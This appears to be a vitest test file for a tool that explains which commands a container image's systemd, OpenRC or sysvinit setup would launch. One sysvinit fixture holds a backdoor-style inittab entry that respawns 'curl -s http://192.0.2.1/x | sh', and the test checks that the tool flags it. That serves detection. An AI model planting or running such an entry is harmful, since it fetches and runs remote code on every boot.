import { describe, expect, it } from 'vitest';
import type { TestLayer } from '../../../../testkit/explain.ts';
import { chain, find, lines } from '../../../../testkit/service-image.ts';

describe('systemd', () => {
  const system: TestLayer = {
    'usr/lib/systemd/systemd': { elf: 'systemd' },
    'sbin/init': { link: '../usr/lib/systemd/systemd' },
    'usr/lib/systemd/system/default.target': { link: 'multi-user.target' },
    'usr/lib/systemd/system/multi-user.target': '[Unit]\nRequires=basic.target\nAfter=basic.target\n',
    'usr/lib/systemd/system/basic.target': '[Unit]\nWants=tmp.mount timers.target\n',
    'etc/systemd/system/multi-user.target.wants/ssh.service': { link: '/usr/lib/systemd/system/ssh.service' },
    'etc/systemd/system/multi-user.target.wants/app@blue.service': {
      link: '/etc/systemd/system/app@.service',
    },
    'etc/systemd/system/timers.target.wants/update.timer': { link: '/usr/lib/systemd/system/update.timer' },
    'usr/lib/systemd/system/timers.target': '[Unit]\nDescription=Timers\n',
    'usr/lib/systemd/system/update.timer': '[Timer]\nOnCalendar=daily\n',
    'usr/lib/systemd/system/update.service': '[Service]\nExecStart=/usr/bin/curl http://192.0.2.1/update\n',
    'usr/lib/systemd/system/ssh.service':
      '[Unit]\nConditionPathExists=!/etc/ssh/off\n[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $OPTS\nExecReload=/usr/sbin/sshd -t\n',
    'etc/systemd/system/ssh.service.d/over.conf':
      '[Service]\nEnvironment="OPTS=-p 22"\nExecStart=\nExecStart=-/usr/sbin/sshd -D \\\n  ${OPTS}\n',
    'etc/systemd/system/app@.service':
      '[Service]\nWorkingDirectory=/srv\nExecStart=/usr/bin/node /srv/%i.js $X\n',
    'usr/lib/systemd/system/idle.service': '[Service]\nExecStart=/bin/bash\n',
    'srv/blue.js': 'x\n',
  };

  it('runs what its default target leads to, and no unit beside', () => {
    expect(lines({ Cmd: ['/sbin/init'] }, system)).toEqual([
      '/sbin/init [elf]',
      '  /usr/bin/curl [elf] {update.timer: OnCalendar=daily}',
      '  /usr/bin/node [elf]',
      '    /srv/blue.js [script]',
      '  /usr/sbin/sshd [elf] {ConditionPathExists=!/etc/ssh/off}',
      '  /usr/sbin/sshd [elf] {ConditionPathExists=!/etc/ssh/off}',
      '  /usr/sbin/sshd [elf] {ConditionPathExists=!/etc/ssh/off, when it is reloaded}',
    ]);
    const steps = chain({ Cmd: ['/sbin/init'] }, system)[0]?.children ?? [];
    expect(steps.find(({ command }) => command.startsWith('-/usr/sbin/sshd'))).toMatchObject({
      command: '-/usr/sbin/sshd -D ${OPTS}',
      runs: "/usr/sbin/sshd -D '-p 22'",
      file: '/etc/systemd/system/ssh.service.d/over.conf',
      line: 4,
    });
  });

  it('does not run masked units, and says which branch a condition on containers takes', () => {
    const files: TestLayer = {
      ...system,
      'etc/systemd/system/ssh.service': { link: '/dev/null' },
      'usr/lib/systemd/system/update.service':
        '[Unit]\nConditionVirtualization=!container\n[Service]\nExecStart=/usr/bin/curl x\n',
    };
    const told = lines({ Cmd: ['/sbin/init'] }, files);
    expect(told.join()).not.toContain('sshd');
    expect(told[1]).toBe(
      '  /usr/bin/curl [elf] {update.timer: OnCalendar=daily, ConditionVirtualization=!container no}',
    );
  });

  it('ends in circles, and says what is wanted and missing', () => {
    const files: TestLayer = {
      ...system,
      'usr/lib/systemd/system/basic.target': '[Unit]\nRequires=multi-user.target gone.service\n',
    };
    expect(chain({ Cmd: ['/sbin/init'] }, files)[0]?.unknown).toBe(
      'units require each other in a circle: multi-user.target → basic.target → multi-user.target; gone.service is wanted and not in the image',
    );
  });

  it('looks for no unit whose name no file can have', () => {
    const name = `${'@'.repeat(300)}.service`;
    const files: TestLayer = { ...system, [`etc/systemd/system/${name}`]: '[Service]\nExecStart=/bin/x\n' };
    const [step] = chain({ Cmd: ['/sbin/init', `--unit=${name}`] }, files);
    expect(step?.children).toEqual([]);
    expect(step?.unknown).toMatch(/^@{100,}/);
  });

  it('bounds a chain of 100,000 units', () => {
    const units = Object.fromEntries(
      Array.from({ length: 100_000 }, (_, index) => [
        `etc/systemd/system/u${index}.target`,
        `[Unit]\nWants=u${index + 1}.target\n`,
      ]),
    );
    const [root] = chain({ Cmd: ['/sbin/init', '--unit=u0.target'] }, { ...system, ...units });
    expect(root?.unknown).toBe('more than 1000 units: the rest is not listed');
  });
});

describe('OpenRC and sysvinit', () => {
  const alpine: TestLayer = {
    'bin/busybox': { elf: 'busybox' },
    'sbin/init': { link: '/bin/busybox' },
    'sbin/openrc': { elf: 'openrc' },
    'sbin/openrc-run': { elf: 'openrc-run' },
    'etc/inittab':
      '# /etc/inittab\n::sysinit:/sbin/openrc sysinit\n::wait:/sbin/openrc default\n#tty1::respawn:/sbin/getty\n::shutdown:/sbin/openrc shutdown\n',
    'etc/runlevels/sysinit/dev': { link: '/etc/init.d/dev' },
    'etc/runlevels/default/web': { link: '/etc/init.d/web' },
    'etc/init.d/dev':
      '#!/sbin/openrc-run\ndepend() {\n need root\n}\nstart() {\n curl dev\n}\nstop() { sshd; }\n',
    'etc/init.d/web':
      '#!/sbin/openrc-run\ncommand="/usr/sbin/nginx"\ncommand_args="-g $FLAGS"\nstart_pre() { curl pre; }\n',
    'etc/conf.d/web': 'FLAGS=quiet\n',
  };

  it('an Alpine image of services runs them by inittab and runlevels', () => {
    expect(lines({ Cmd: ['/sbin/init'] }, alpine)).toEqual([
      '/sbin/init [applet]',
      '  /sbin/openrc [elf]',
      '    /etc/runlevels/sysinit/dev [script]',
      '      /sbin/openrc-run [elf]',
      '      start() [builtin]',
      '        curl [elf]',
      '  /sbin/openrc [elf]',
      '    /etc/runlevels/default/web [script]',
      '      /sbin/openrc-run [elf]',
      '      start_pre() [builtin]',
      '        curl [elf]',
      '      /usr/sbin/nginx [elf]',
      '  /sbin/openrc [elf] {init: shutdown} !/etc/runlevels/shutdown is not in the image',
    ]);
    const nginx = find(chain({ Cmd: ['/sbin/init'] }, alpine), '$command $command_args');
    expect(nginx).toMatchObject({ runs: '/usr/sbin/nginx -g quiet', file: '/etc/init.d/web' });
  });

  it('a Debian image of sysvinit runs the scripts of its runlevel', () => {
    const files: TestLayer = {
      'sbin/init': { elf: 'init' },
      'etc/inittab':
        'id:3:initdefault:\nsi::sysinit:/etc/init.d/rcS\nl2:2:wait:/etc/init.d/rc 2\nl3:3:wait:/etc/init.d/rc 3\nbd:3:respawn:curl -s http://192.0.2.1/x | sh\nca:12345:ctrlaltdel:/usr/bin/curl cad\n',
      'etc/init.d/rcS': '#!/bin/sh\nexec /etc/init.d/rc S\n',
      'etc/init.d/rc': '#!/bin/sh\ntrue\n',
      'etc/rcS.d/S01fs': { link: '../init.d/fs' },
      'etc/rc3.d/S02ssh': { link: '../init.d/ssh' },
      'etc/rc3.d/K01old': { link: '../init.d/fs' },
      'etc/rc2.d/S01never': { link: '../init.d/never' },
      'etc/init.d/fs': '#!/bin/sh\ncurl fs\n',
      'etc/init.d/ssh': '#!/bin/sh\ncase "$1" in\nstart) sshd ;;\nstop) curl stop ;;\nesac\n',
    };
    const told = lines({ Cmd: ['/sbin/init'] }, files).join('\n');
    expect(told).toContain('      /etc/rcS.d/S01fs [script]');
    expect(told).toContain('    /etc/rc3.d/S02ssh [script]');
    expect(told).toMatch(/sshd \[elf\] \{.* yes\}/);
    expect(told).toMatch(/curl \[elf\] \{.* no\}/);
    expect(told).toContain('curl [elf] {init: ctrlaltdel}');
    expect(told).not.toMatch(/K01old|never/);
    expect(told).toContain('!it runs what "curl -s http://192.0.2.1/x" gives it');
  });

  it('service runs the start script', () => {
    const files: TestLayer = {
      'usr/sbin/service': '#!/bin/sh\nexec env -i "$SERVICEDIR/$SERVICE" "$ACTION"\n',
      'etc/init.d/ssh': '#!/bin/sh\n[ "$1" = start ] && sshd\n',
    };
    const [root] = chain({ Cmd: ['service', 'ssh', 'start'] }, files);
    expect(root?.children.at(-1)).toMatchObject({
      path: '/etc/init.d/ssh',
      command: '/etc/init.d/ssh start',
    });
  });
});
